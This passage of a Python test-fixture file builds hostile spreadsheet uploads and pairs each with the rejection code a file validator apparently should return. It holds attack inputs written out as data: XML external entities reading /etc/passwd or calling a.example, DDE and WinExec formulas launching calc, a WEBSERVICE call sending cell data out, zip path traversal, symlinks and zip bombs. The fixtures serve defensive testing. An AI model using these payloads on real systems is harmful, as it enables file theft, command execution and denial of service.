"""Hostile workbooks, made in the test. Each entry: id → (name of the upload, bytes or a function, expected code)."""

import struct
import zipfile

from tests.accounts.files.build import (
    DECL,
    MAIN,
    PACK,
    REL,
    SHEET_TYPE,
    book,
    entries,
    entry,
    ods,
    pack,
    raw_zip,
    relations,
    row,
    sheet,
    strings,
    styles,
    types,
)
from tests.accounts.files.ole import compound

MIB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
BOOK_RELS = "xl/_rels/workbook.xml.rels"
HTML = b"<html><body><table><tr><td>1</td></tr></table></body></html>"
XML_2003 = b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
BIG = b"0" * (9 * MIB)


def spoilt(parts=None, **changes):
    return pack(book(parts=parts or {}, **changes))


def related(*more):
    """The workbook's relations with some more."""
    return relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml"),
        ("rId2", "sharedStrings", "sharedStrings.xml"),
        ("rId3", "styles", "styles.xml"),
        *more,
    )


def typed(part, kind):
    return types(
        ("/xl/worksheets/sheet1.xml", f"{SHEET_TYPE}.worksheet+xml"),
        ("/xl/sharedStrings.xml", f"{SHEET_TYPE}.sharedStrings+xml"),
        (part, kind),
    )


def with_sheet(text):
    return spoilt({SHEET: text})


def with_doctype(prolog, encoding="utf-8"):
    text = sheet().removeprefix(DECL)
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return with_sheet((head + prolog + text).encode(encoding))


def hidden_gap():
    parts = entries(book())
    return raw_zip(parts, between=b"PK\x03\x04hidden member")


def overlapping():
    parts = entries(book())
    parts.append(entry("xl/copy.xml", b"<a/>", offset=0))
    return raw_zip(parts)


def overlapping_bomb():
    """Many directory entries over the same bytes."""
    parts = book()
    first = entry("[Content_Types].xml", parts.pop("[Content_Types].xml"))
    return raw_zip(
        [first, *({**first, "name": b"x%d.xml" % n, "offset": 0} for n in range(50)), *entries(parts)]
    )


MAGIC = {
    "empty": ("a.xlsx", b"", "empty"),
    "old_xls": ("a.xlsx", compound("Workbook"), "old_xls"),
    "old_xls_named_so": ("a.xls", compound("Workbook"), "old_xls"),
    "old_xls_book": ("a.xlsx", compound("Book"), "old_xls"),
    "raw_biff": ("a.xlsx", b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\0" * 64, "old_xls"),
    "password": ("a.xlsx", compound("EncryptedPackage", "EncryptionInfo"), "password"),
    "et": ("a.et", compound("Workbook", "ET"), "wps_et"),
    "wps": ("a.wps", compound("WordDocument"), "wps_text"),
    "doc": ("a.xlsx", compound("WordDocument"), "old_doc"),
    "ppt": ("a.xlsx", compound("PowerPoint Document"), "old_ppt"),
    "other_ole": ("a.xlsx", compound("Something"), "ole"),
    "broken_ole": ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600, "ole"),
    "html": ("a.xlsx", HTML, "html_as_office"),
    "html_bom": ("a.xlsx", b"\xef\xbb\xbf\r\n " + HTML, "html_as_office"),
    "html_utf16": ("a.xlsx", HTML.decode().encode("utf-16"), "html_as_office"),
    "xml_2003": ("a.xlsx", XML_2003, "xml2003"),
    "xml_2003_utf16": ("a.xlsx", XML_2003.decode().encode("utf-16"), "xml2003"),
    "mhtml": ("a.xlsx", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n", "mhtml"),
    "flat_ods": (
        "a.ods",
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        "flat_odf",
    ),
    "rar": ("a.xlsx", b"Rar!\x1a\x07\x01\x00" + b"\0" * 40, "archive"),
    "seven_zip": ("a.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "archive"),
    "gzip": ("a.xlsx", b"\x1f\x8b\x08\x00" + b"\0" * 40, "archive"),
    "bzip2": ("a.xlsx", b"BZh91AY&SY" + b"\0" * 40, "archive"),
    "tar": ("a.xlsx", b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 300, "archive"),
    "cab": ("a.xlsx", b"MSCF" + b"\0" * 40, "archive"),
    "exe": ("a.xlsx", b"MZ\x90\x00\x03\x00" + b"\0" * 100, "program"),
    "elf": ("a.xlsx", b"\x7fELF\x02\x01\x01" + b"\0" * 100, "program"),
    "script": ("a.csv", b"#!/bin/sh\nrm -rf x\n", "program"),
    "java_class": ("a.xlsx", b"\xca\xfe\xba\xbe\0\0\0\x34", "program"),
    "shortcut": ("a.xlsx", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60, "program"),
    "picture": ("a.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 60, "mismatch"),
    "jpeg": ("a.xlsx", b"\xff\xd8\xff\xe0" + b"\0" * 60, "mismatch"),
    "gif": ("a.xlsx", b"GIF89a" + b"\0" * 60, "picture_kind"),
    "pdf": ("a.xlsx", b"%PDF-1.4\n", "mismatch"),
    "rtf": ("a.xlsx", b"{\\rtf1 a}", "rtf"),
    "text": ("a.xlsx", "序号,问题\n1,甲\n".encode(), "mismatch"),
    "csv_named_ods": ("a.ods", b"a,b\n", "mismatch"),
    "random": ("a.xlsx", bytes(range(200, 256)) * 40, "mismatch"),
    "database": ("a.xlsx", b"SQLite format 3\0" + b"\0" * 60, "database"),
    "jar_like": ("a.xlsx", pack({"META-INF/MANIFEST.MF": b"x", "A.class": b"y"}), "archive"),
    "docx_named_xlsx": ("a.xlsx", None, "mismatch"),
    "xlsx_named_ods": ("a.ods", pack(book()), "mismatch"),
    "xlsx_named_csv": ("a.csv", pack(book()), "mismatch"),
    "xlsm_name": ("a.xlsm", pack(book()), "macro"),
    "xlsb_name": ("a.xlsb", pack(book()), "binary_workbook"),
    "no_ending": ("台账", pack(book()), "ending"),
    "odd_ending": ("a.abc", pack(book()), "ending"),
    "csv_binary": ("a.csv", b"a,b\n\x00\x01\x02\x03\n", "not_text"),
    "csv_garbage": ("a.csv", bytes(range(128, 256)) * 9 + b"\xff\xff", "encoding"),
    "csv_wide": ("a.csv", b",".join([b"x"] * 301), "columns"),
    "csv_long_field": ("a.csv", b'"' + b"x" * (MIB + 9) + b'",1\n', "csv"),
    "csv_one_line": ("a.csv", lambda: b"," * 30_000_000, "columns"),
    "csv_one_row": ("a.csv", lambda: b'"\n",' * 3_000_000, "columns"),
    "csv_many_rows": ("a.csv", lambda: b"a,b\n" * 60_300, "rows"),
    "csv_blank": ("a.csv", b" \n\n", "empty"),
    "csv_html": ("a.csv", HTML, "mismatch"),
    "too_big": ("a.xlsx", lambda: pack(book(parts={"a.bin": b""})) + b"\0" * (41 * MIB), "size"),
}

ZIPS = {
    "truncated": (lambda: pack(book())[:-30], "zip_truncated"),
    "half": (lambda: pack(book())[:700], "zip_truncated"),
    "empty_zip": (lambda: pack({}), "zip_empty"),
    "prefix": (lambda: b"MZ junk" + pack(book()), "program"),
    "prefix_zip_start": (lambda: raw_zip(entries(book()), prefix=b"PK\x03\x04junk"), "zip_prefix"),
    "prefix_unadjusted": (lambda: b"PK\x03\x04junk" + pack(book()), "zip_prefix"),
    "trailing": (lambda: pack(book()) + b"extra bytes", "zip_trailing"),
    "trailing_zip": (lambda: pack(book()) + pack({"a.exe": b"MZ"}), "zip_prefix"),
    "comment_archive": (lambda: raw_zip(entries(book()), comment=pack({"a": b"b"})), "zip_any"),
    "comment_script": (lambda: raw_zip(entries(book()), comment=b"<script>alert(1)</script>"), "zip_comment"),
    "comment_long": (lambda: raw_zip(entries(book()), comment=b"x" * 5000), "zip_comment"),
    "members": (lambda: pack({**book(), **{f"xl/x{n}.xml": b"<a/>" for n in range(3001)}}), "zip_members"),
    "duplicate": (lambda: raw_zip([*entries(book()), entry(SHEET, b"<a/>")]), "zip_duplicate"),
    "duplicate_case": (lambda: raw_zip([*entries(book()), entry(SHEET.upper(), b"<a/>")]), "zip_duplicate"),
    "duplicate_encoded": (
        lambda: raw_zip([*entries(book()), entry("xl/%77orkbook.xml", b"<a/>")]),
        "zip_duplicate",
    ),
    "absolute": (lambda: pack({**book(), "/etc/passwd": b"x"}), "zip_name"),
    "parent": (lambda: pack({**book(), "../../evil.xml": b"<a/>"}), "zip_name"),
    "parent_inside": (lambda: pack({**book(), "xl/../../evil.xml": b"<a/>"}), "zip_name"),
    "parent_encoded": (lambda: pack({**book(), "xl/%2e%2e/%2e%2e/evil.xml": b"<a/>"}), "zip_name"),
    "backslash": (lambda: raw_zip([*entries(book()), entry("..\\evil.xml", b"<a/>")]), "zip_name"),
    "drive": (lambda: pack({**book(), "C:/evil.xml": b"<a/>"}), "zip_name"),
    "nul_name": (lambda: raw_zip([*entries(book()), entry(b"xl/a\0.xml", b"<a/>")]), "zip_name"),
    "long_name": (lambda: pack({**book(), "x" * 600: b"a"}), "zip_name"),
    "link": (
        lambda: raw_zip([*entries(book()), entry("l", b"/etc/passwd", attributes=0o120777 << 16)]),
        "zip_link",
    ),
    "device": (lambda: raw_zip([*entries(book()), entry("d", b"", attributes=0o020666 << 16)]), "zip_link"),
    "encrypted": (lambda: raw_zip(entries(book(), sheet1={"flags": 1})), "password"),
    "encrypted_locally": (lambda: raw_zip(entries(book(), sheet1={"local_flags": 1})), "password"),
    "strong_encryption": (lambda: raw_zip(entries(book(), sheet1={"flags": 0x40})), "password"),
    "aes": (
        lambda: raw_zip(entries(book(), sheet1={"extra": struct.pack("<HH7s", 0x9901, 7, b"1234567")})),
        "password",
    ),
    "bzip2": (lambda: pack(book(), zipfile.ZIP_BZIP2), "zip_method"),
    "lzma": (lambda: pack(book(), zipfile.ZIP_LZMA), "zip_method"),
    "method_odd": (lambda: raw_zip(entries(book(), sheet1={"method": 99})), "zip_method"),
    "method_mismatch": (lambda: raw_zip(entries(book(), sheet1={"local_method": 0})), "zip_mismatch"),
    "overlap": (overlapping, "zip_any"),
    "overlap_bomb": (overlapping_bomb, "zip_any"),
    "name_mismatch": (
        lambda: raw_zip(entries(book(), sheet1={"local_name": b"xl/worksheets/other1.xml"})),
        "zip_mismatch",
    ),
    "size_mismatch": (lambda: raw_zip(entries(book(), sheet1={"local_size": 5})), "zip_mismatch"),
    "size_understated": (lambda: raw_zip(entries(book(), sheet1={"size": 50})), "zip_lie"),
    "size_overstated": (lambda: raw_zip(entries(book(), sheet1={"size": 5000})), "zip_lie"),
    "checksum": (lambda: raw_zip(entries(book(), sheet1={"crc": 1})), "zip_lie"),
    "after_stream": (
        lambda: raw_zip(entries(book(), sheet1={"more": b"hidden after the stream"})),
        "zip_lie",
    ),
    "stored_lie": (lambda: raw_zip(entries(book(), sheet1={"method": 0, "size": 9})), "zip_lie"),
    "unicode_name": (
        lambda: raw_zip(entries(book(), sheet1={"extra": struct.pack("<HHBI", 0x7075, 9, 1, 0) + b"evil"})),
        "zip_name",
    ),
    "count_low": (lambda: raw_zip(entries(book()), count=3), "zip_any"),
    "count_high": (lambda: raw_zip(entries(book()), count=300), "zip_any"),
    "offset": (lambda: raw_zip(entries(book()), shift=7), "zip_prefix"),
    "hidden_member": (hidden_gap, "zip_hidden"),
    "split": (lambda: raw_zip(entries(book(), sheet1={"disk": 3})), "zip_split"),
    "ratio": (lambda: pack({**book(), "xl/media/a.bin": BIG}), "zip_ratio"),
    "bomb_sheet": (lambda: with_sheet(sheet(ROW_BOMB())), "any"),
    "zip64_far": (
        lambda: raw_zip(
            entries(book(), sheet1={"offset": 0xFFFFFFFF, "extra": struct.pack("<HHQ", 1, 8, (1 << 64) - 1)})
        ),
        "zip_broken",
    ),
    "zip64_missing": (lambda: raw_zip(entries(book(), sheet1={"size": 0xFFFFFFFF})), "zip_broken"),
    "zip64_size": (
        lambda: raw_zip(
            entries(
                book(),
                sheet1={"size": 0xFFFFFFFF, "extra": struct.pack("<HHQ", 1, 8, 1 << 40), "local_size": 1},
            )
        ),
        "part_size",
    ),
}


def ROW_BOMB():
    return "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, 61_000))


XML = {
    "doctype": (lambda: with_doctype("<!DOCTYPE worksheet>"), "xml_doctype"),
    "entities": (lambda: with_doctype(ENTITY), "xml_doctype"),
    "external_entity": (
        lambda: with_doctype('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        "xml_doctype",
    ),
    "parameter_entity": (
        lambda: with_doctype('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://a.example/x"> %e;]>'),
        "xml_doctype",
    ),
    "external_subset": (lambda: with_doctype('<!DOCTYPE x SYSTEM "http://a.example/x.dtd">'), "xml_doctype"),
    "doctype_utf16": (lambda: with_doctype(ENTITY, "utf-16"), "xml_doctype"),
    "doctype_utf16be": (
        lambda: with_sheet(b"\xfe\xff" + (ENTITY + sheet().removeprefix(DECL)).encode("utf-16-be")),
        "xml_doctype",
    ),
    "doctype_utf16_bare": (
        lambda: with_sheet((ENTITY + sheet().removeprefix(DECL)).encode("utf-16-le")),
        "xml_doctype",
    ),
    "doctype_after_comment": (lambda: with_doctype(f"<!--{'x' * 300_000}-->{ENTITY}"), "xml_doctype"),
    "doctype_in_rels": (
        lambda: spoilt({BOOK_RELS: ENTITY + related().removeprefix(DECL)}),
        "xml_doctype",
    ),
    "doctype_in_types": (
        lambda: spoilt(
            {"[Content_Types].xml": ENTITY + book()["[Content_Types].xml"].decode().removeprefix(DECL)}
        ),
        "xml_doctype",
    ),
    "doctype_in_strings": (
        lambda: spoilt({"xl/sharedStrings.xml": ENTITY + strings("&b;").removeprefix(DECL)}),
        "xml_doctype",
    ),
    "doctype_in_core": (lambda: spoilt({"docProps/core.xml": ENTITY + "<x/>"}), "xml_doctype"),
    "doctype_in_disguise": (lambda: spoilt({"xl/media/image1.png": ENTITY + "<x/>"}), "xml_doctype"),
    "utf7": (lambda: with_sheet(sheet().replace("UTF-8", "UTF-7")), "xml_encoding"),
    "ebcdic": (
        lambda: with_sheet(
            sheet().replace("UTF-8", "IBM037").replace("序号问题", "x").encode("cp037", "replace")
        ),
        "xml_broken",
    ),
    "utf32": (lambda: with_sheet(sheet().encode("utf-32")), "xml_encoding"),
    "undeclared_entity": (lambda: spoilt(rows=row(1, "&boom;")), "xml_broken"),
    "undeclared_entity_in_strings": (
        lambda: spoilt({"xl/sharedStrings.xml": strings("&boom;")}),
        "xml_broken",
    ),
    "nul_reference": (lambda: spoilt(rows=row(1, "&#0;")), "xml_broken"),
    "not_well_formed": (lambda: with_sheet(sheet()[:-20]), "xml_broken"),
    "two_roots": (lambda: with_sheet(sheet() + "<x/>"), "xml_broken"),
    "double_attribute": (lambda: spoilt(rows='<row r="1"><c r="A1" r="B1"><v>1</v></c></row>'), "xml_broken"),
    "control_character": (lambda: spoilt(rows=row(1, "a\x01b")), "xml_broken"),
    "nul": (lambda: spoilt(rows=row(1, "a\x00b")), "xml_broken"),
    "bad_utf8": (
        lambda: with_sheet(sheet(row(1, "QQ")).encode().replace(b"QQ", b"\xff\xfe\xff")),
        "xml_broken",
    ),
    "spliced_comment": (
        lambda: spoilt(rows=f'<!-{row(1, "a")}- <row r="2"><c r="XFE9"><v>1</v></c></row> -->'),
        "xml_broken",
    ),
    "deep": (lambda: spoilt(after="<a>" * 80 + "</a>" * 80), "xml_depth"),
    "very_deep": (lambda: with_sheet("<a>" * 400_000), "xml_depth"),
    "deep_in_rows": (
        lambda: spoilt(rows=row(1, "a") + '<row r="2">' + "<c>" * 90 + "</c>" * 90 + "</row>"),
        "xml_depth",
    ),
    "long_text": (lambda: spoilt(rows=row(1, "字" * 400_000)), "xml_token"),
    "long_string": (lambda: spoilt({"xl/sharedStrings.xml": strings("x" * (MIB + 100))}), "xml_token"),
    "long_attribute": (lambda: spoilt(before=f'<dimension ref="{"A" * (2 * MIB)}"/>'), "xml_token"),
    "long_name": (lambda: spoilt(after=f"<{'n' * (2 * MIB)}/>"), "xml_token"),
    "long_comment": (lambda: spoilt(after=f"<!--{'n' * (2 * MIB)}-->"), "xml_token"),
    "many_tags": (
        lambda: spoilt(
            {"xl/theme/theme1.xml": "<a>" + "".join(f'<b c="{n}"/>' for n in range(3_600_000)) + "</a>"}
        ),
        "xml_tags",
    ),
    "many_regular_tags": (lambda: spoilt(rows=wide_rows()), "xml_tags"),
}


def wide_rows():
    cells = [f"{a}{b}" for a in ("", *"ABCDEFGHI") for b in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    return "".join(
        f'<row r="{n}">' + "".join(f'<c r="{name}{n}"><v>{n % 89}</v></c>' for name in cells) + "</row>"
        for n in range(1, 7_000)
    )


def one_cell(address, number=1):
    return spoilt(rows=f'<row r="{number}"><c r="{address}"><v>1</v></c></row>')


def merged(*references):
    return spoilt(
        after="<mergeCells>" + "".join(f'<mergeCell ref="{r}"/>' for r in references) + "</mergeCells>"
    )


def named(text, attributes='name="甲"', count=1):
    return spoilt(
        names="<definedNames>" + f"<definedName {attributes}>{text}</definedName>" * count + "</definedNames>"
    )


def formula(text):
    return spoilt(rows=f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>')


CELLS = {
    "column_beyond": (lambda: one_cell("XFE1"), "reference"),
    "column_far": (lambda: one_cell("ZZZZZZ1"), "reference"),
    "row_beyond": (lambda: one_cell("A1048577", 1_048_577), "reference"),
    "row_huge": (lambda: spoilt(rows='<row r="99999999999999999999"/>'), "reference"),
    "row_zero": (lambda: spoilt(rows='<row r="0"/>'), "reference"),
    "row_negative": (lambda: spoilt(rows='<row r="-5"/>'), "reference"),
    "address_odd": (lambda: one_cell("1A"), "reference"),
    "address_empty": (lambda: one_cell(""), "reference"),
    "corner": (
        lambda: spoilt(rows=row(1, 1) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        "columns",
    ),
    "last_row": (
        lambda: spoilt(rows=row(1, *range(8)) + '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
        "sparse",
    ),
    "corner_escaped": (lambda: one_cell("&#88;FE1"), "reference"),
    "corner_single_quotes": (lambda: spoilt(rows="<row r='1'><c r='XFE1'><v>1</v></c></row>"), "reference"),
    "corner_after_gt": (lambda: spoilt(rows='<row r="1"><c s=">" r="XFE1"><v>1</v></c></row>'), "reference"),
    "corner_prefixed": (
        lambda: with_sheet(
            f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row r="1"><x:c r="XFE1"><x:v>1</x:v></x:c></x:row>'
            "</x:sheetData></x:worksheet>"
        ),
        "reference",
    ),
    "corner_second_prefix": (
        lambda: spoilt(rows=f'<y:row xmlns:y="{MAIN}" r="1"><y:c r="XFE1"><y:v>1</y:v></y:c></y:row>'),
        "reference",
    ),
    "wide": (lambda: one_cell("KO1"), "columns"),
    "wide_unaddressed": (lambda: spoilt(rows="<row>" + "<c><v>1</v></c>" * 301 + "</row>"), "columns"),
    "rows_falling": (lambda: spoilt(rows=row(2, 1) + row(1, 1)), "row_order"),
    "rows_twice": (lambda: spoilt(rows=row(2, 1) + row(2, 1)), "row_order"),
    "rows_falling_odd": (lambda: spoilt(rows=row(5, 1) + "<row r='3'/>"), "row_order"),
    "cell_elsewhere": (lambda: one_cell("A7"), "cell_row"),
    "many_rows": (lambda: spoilt(rows=ROW_BOMB()), "rows"),
    "dimension": (lambda: spoilt(before='<dimension ref="A1:XFE1048577"/>'), "reference"),
    "whole_sheet_merge": (lambda: merged("A1:XFD1048576"), "merge_area"),
    "whole_column_merge": (lambda: merged("A1:C1048576"), "merge_area"),
    "many_large_merges": (lambda: merged(*["A1:T9000"] * 20), "merges"),
    "many_merges": (lambda: merged(*["A1:B1"] * 120_001), "merges"),
    "merge_beyond": (lambda: merged("A1:XFE1"), "reference"),
    "merge_odd": (lambda: merged("everything"), "reference"),
    "sqref": (
        lambda: spoilt(after='<conditionalFormatting sqref="A1:A9999999"/>'),
        "reference",
    ),
    "sqref_many": (
        lambda: spoilt(
            after=f'<dataValidations><dataValidation sqref="{"A1 " * 30_000}"/></dataValidations>'
        ),
        "areas",
    ),
    "hyperlink_beyond": (
        lambda: spoilt(after='<hyperlinks><hyperlink ref="XFE1" location="x"/></hyperlinks>'),
        "reference",
    ),
    "filter_beyond": (lambda: spoilt(after='<autoFilter ref="A1:A1048577"/>'), "reference"),
    "columns_beyond": (lambda: spoilt(before='<cols><col min="1" max="99999"/></cols>'), "reference"),
    "shared_formula_beyond": (
        lambda: spoilt(
            rows='<row r="1"><c r="A1"><f t="shared" ref="A1:XFE9" si="0">1</f><v>1</v></c></row>'
        ),
        "reference",
    ),
    "table_beyond": (
        lambda: spoilt(
            {
                "[Content_Types].xml": typed("/xl/tables/table1.xml", f"{SHEET_TYPE}.table+xml"),
                "xl/tables/table1.xml": f'<table xmlns="{MAIN}" ref="A1:XFE9"/>',
            }
        ),
        "reference",
    ),
    "names_many": (lambda: named("任务清单!$A$1", count=2_001), "names"),
    "name_long": (lambda: named("A" * 2_049), "name_length"),
    "print_titles": (lambda: named("'" * 3_000, 'name="_xlnm.Print_Titles" localSheetId="0"'), "name_length"),
    "print_titles_short": (
        lambda: named("a," * 500, 'name="_xlnm.Print_Titles" localSheetId="0"'),
        "print_titles",
    ),
    "print_area_beyond": (lambda: named("任务清单!$A$1:$XFE$9", 'name="_xlnm.Print_Area"'), "reference"),
    "name_row_beyond": (lambda: named("任务清单!$A$1:$B$1048577"), "reference"),
    "number_format": (
        lambda: spoilt(
            {
                "xl/styles.xml": styles(
                    f'<numFmts><numFmt numFmtId="170" formatCode="{"[" * 100_000}"/></numFmts>'
                )
            }
        ),
        "number_format",
    ),
    "number_format_brackets": (
        lambda: spoilt(
            {"xl/styles.xml": styles(f'<numFmts><numFmt numFmtId="170" formatCode="{"[h" * 60}"/></numFmts>')}
        ),
        "number_format",
    ),
    "header_long": (
        lambda: spoilt(after=f"<headerFooter><oddHeader>{'&amp;L' * 2_000}</oddHeader></headerFooter>"),
        "header",
    ),
    "strings_announced": (
        lambda: spoilt(
            {"xl/sharedStrings.xml": strings("a").replace('uniqueCount="1"', 'uniqueCount="4294967295"')}
        ),
        "strings",
    ),
    "strings_announced_negative": (
        lambda: spoilt({"xl/sharedStrings.xml": strings("a").replace('uniqueCount="1"', 'uniqueCount="-1"')}),
        "strings",
    ),
    "string_missing": (lambda: spoilt(rows='<row r="1"><c r="A1" t="s"><v>77</v></c></row>'), "unreadable"),
    "string_amplified": (lambda: amplified(), "child_memory"),
    "sheet_twice": (
        lambda: spoilt(
            sheets='<sheet name="a" sheetId="1" r:id="rId1"/><sheet name="b" sheetId="2" r:id="rId1"/>'
        ),
        "sheet_twice",
    ),
    "sheet_part_twice": (
        lambda: spoilt(
            {BOOK_RELS: related(("rId9", "worksheet", "/xl/worksheets/sheet1.xml"))},
            sheets='<sheet name="a" sheetId="1" r:id="rId1"/><sheet name="b" sheetId="2" r:id="rId9"/>',
        ),
        "sheet_twice",
    ),
    "sheets_many": (
        lambda: spoilt(
            sheets="".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r{n}"/>' for n in range(1001))
        ),
        "sheets",
    ),
    "sheets_none": (lambda: spoilt(sheets=""), "no_sheets"),
    "sheet_missing": (lambda: spoilt(sheets='<sheet name="a" sheetId="1" r:id="rId7"/>'), "sheet_missing"),
    "dde_formula": (lambda: formula("cmd|'/c calc'!A0"), "dde"),
    "dde_quoted": (lambda: formula("'cmd'|'/c calc'!A0"), "dde"),
    "dde_name": (lambda: named("cmd|'/c calc'!A0"), "dde"),
    "webservice": (lambda: formula('_xlfn.WEBSERVICE("http://a.example/"&amp;A2)'), "call"),
    "webservice_split": (lambda: formula('IF(1,_xlfn.WEB<!-- -->SERVICE("http://a.example/"))'), "call"),
    "call": (lambda: formula('CALL("Kernel32","WinExec","JCJ","calc",0)'), "call"),
    "validation_call": (
        lambda: spoilt(
            after='<dataValidations><dataValidation sqref="A1"><formula1>RTD("a","","b")</formula1></dataValidation></dataValidations>'
        ),
        "call",
    ),
    "auto_open": (lambda: named("Sheet2!$A$1", 'name="_xlnm.Auto_Open"'), "macro"),
    "macro_name": (lambda: named("x", 'name="f" xlm="1" function="1"'), "macro"),
}


def amplified():
    rows = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{c}{n}" t="s"><v>0</v></c>' for c in "ABCDEFGHIJ") + "</row>"
        for n in range(1, 3_000)
    )
    return spoilt({"xl/sharedStrings.xml": strings("长" * 300_000)}, rows=rows)


def package_with(kind, target="x.bin", mode=None, part=None):
    """A relation of this kind from the sheet, and the part it points to."""
    parts = {SHEET_RELS: relations(("rId1", kind, target, *([mode] if mode else [])))}
    parts.update(part or {})
    return spoilt(parts)


PARTS = {
    "macro_project": (lambda: spoilt({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    "macro_relation": (
        lambda: spoilt(
            {
                BOOK_RELS: related(
                    ("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin")
                )
            }
        ),
        "macro",
    ),
    "macro_type": (
        lambda: spoilt(
            {
                "[Content_Types].xml": typed("/xl/a.bin", "application/vnd.ms-office.vbaProject"),
                "xl/a.bin": b"x",
            }
        ),
        "macro",
    ),
    "macro_workbook": (
        lambda: spoilt(
            {"[Content_Types].xml": types(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")}
        ),
        "macro",
    ),
    "binary_workbook": (
        lambda: spoilt({"[Content_Types].xml": types(main="application/vnd.ms-excel.sheet.binary.main")}),
        "binary_workbook",
    ),
    "template": (
        lambda: spoilt({"[Content_Types].xml": types(main=f"{SHEET_TYPE}.template.main+xml")}),
        "template",
    ),
    "wrong_type": (lambda: spoilt({"[Content_Types].xml": types(main="text/plain")}), "not_office"),
    "macro_sheet": (lambda: spoilt({"xl/macrosheets/sheet1.xml": "<a/>"}), "macro"),
    "dialog_sheet": (
        lambda: spoilt({BOOK_RELS: related(("rId9", "dialogsheet", "dialogsheets/s.xml"))}),
        "macro",
    ),
    "activex": (lambda: spoilt({"xl/activeX/activeX1.bin": b"x"}), "activex"),
    "activex_relation": (lambda: package_with("control", "../a/c1.xml"), "activex"),
    "ole_relation": (lambda: package_with("oleObject", "../embeddings/o.bin"), "ole_object"),
    "ole_part": (lambda: spoilt({"xl/embeddings/oleObject1.bin": compound("x")}), "ole_object"),
    "ole_as_printer": (
        lambda: spoilt({"xl/printerSettings/printerSettings1.bin": compound("x")}),
        "ole_object",
    ),
    "package": (lambda: package_with("package", "../embeddings/a.docx"), "ole_object"),
    "embedded_zip": (lambda: spoilt({"xl/media/image1.png": pack({"a": b"b"})}), "ole_object"),
    "embedded_exe": (lambda: spoilt({"xl/media/image1.png": b"MZ\x90\x00"}), "program"),
    "exe_part": (lambda: spoilt({"xl/evil.exe": b"x"}), "program"),
    "html_part": (lambda: spoilt({"xl/evil.html": b"<html/>"}), "program"),
    "external_link": (
        lambda: spoilt({BOOK_RELS: related(("rId9", "externalLink", "externalLinks/externalLink1.xml"))}),
        "external_link",
    ),
    "external_link_part": (lambda: spoilt({"xl/externalLinks/externalLink1.xml": "<a/>"}), "external_link"),
    "external_path": (
        lambda: package_with("externalLinkPath", "file:///x.xlsx", "External"),
        "external_link",
    ),
    "connections": (lambda: spoilt({"xl/connections.xml": f'<connections xmlns="{MAIN}"/>'}), "connection"),
    "query_table": (lambda: package_with("queryTable", "../queryTables/q.xml"), "connection"),
    "real_time_data": (
        lambda: spoilt({BOOK_RELS: related(("rId9", "volatileDependencies", "v.xml"))}),
        "connection",
    ),
    "web_extension": (
        lambda: spoilt(
            {
                "_rels/.rels": relations(
                    ("rId1", "officeDocument", "xl/workbook.xml"),
                    (
                        "rId2",
                        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
                        "xl/w.xml",
                    ),
                )
            }
        ),
        "web_extension",
    ),
    "external_image": (lambda: package_with("image", "http://a.example/x.png", "External"), "external"),
    "external_share": (lambda: package_with("image", "\\\\a.example\\share\\x.png", "External"), "external"),
    "external_undeclared": (lambda: package_with("image", "http://a.example/x.png"), "external"),
    "external_lower_case": (lambda: package_with("image", "x.png", "external"), "external"),
    "external_template": (
        lambda: package_with("attachedTemplate", "http://a.example/x.dotm", "External"),
        "external",
    ),
    "relation_escapes": (lambda: package_with("image", "../../../../etc/passwd"), "relation_path"),
    "relation_escapes_encoded": (lambda: package_with("image", "%2e%2e/%2e%2e/%2e%2e/x"), "relation_path"),
    "relation_twice": (
        lambda: spoilt({BOOK_RELS: related(("rId1", "worksheet", "x.xml"))}),
        "relation_twice",
    ),
    "two_documents": (
        lambda: spoilt(
            {
                "_rels/.rels": relations(
                    ("rId1", "officeDocument", "xl/workbook.xml"), ("rId2", "officeDocument", "xl/other.xml")
                )
            }
        ),
        "not_office",
    ),
    "no_document": (lambda: spoilt({"_rels/.rels": relations()}), "not_office"),
    "no_types": (lambda: pack({name: data for name, data in book().items() if name[0] != "["}), "archive"),
    "types_contradict": (
        lambda: spoilt({"[Content_Types].xml": types(("/xl/workbook.xml", "text/plain"))}),
        "content_type",
    ),
    "presentation": (
        lambda: spoilt(
            {
                "[Content_Types].xml": types(
                    main="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
                )
            }
        ),
        "presentation",
    ),
    "strict_external": (
        lambda: spoilt(
            {
                SHEET_RELS: relations(
                    (
                        "rId1",
                        "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject",
                        "http://a.example/x",
                        "External",
                    )
                )
            }
        ),
        "ole_object",
    ),
}


def cells(extra="", text="a"):
    return f"<table:table-cell {extra}><text:p>{text}</text:p></table:table-cell>"


def table(body):
    return ods(f'<table:table table:name="甲">{body}</table:table>')


ODS = {
